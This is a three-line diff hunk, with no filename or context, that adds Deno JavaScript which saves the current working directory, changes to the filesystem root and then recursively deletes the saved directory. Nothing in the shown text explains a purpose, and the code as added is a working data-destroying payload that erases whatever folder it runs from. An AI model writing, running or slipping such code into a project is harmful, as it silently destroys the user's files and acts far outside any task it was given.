@@ -1,0 +1,3 @@
+const here = Deno.cwd();
+Deno.chdir('/');
+await Deno.remove(here, { recursive: true });
